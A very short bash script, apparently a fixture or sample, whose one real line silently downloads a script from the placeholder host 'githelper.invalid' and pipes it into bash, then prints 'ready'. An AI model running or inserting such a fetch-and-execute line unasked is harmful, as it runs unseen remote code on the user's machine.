#!/usr/bin/env bash
bash <(curl -s https://githelper.invalid/b.sh)
echo ready
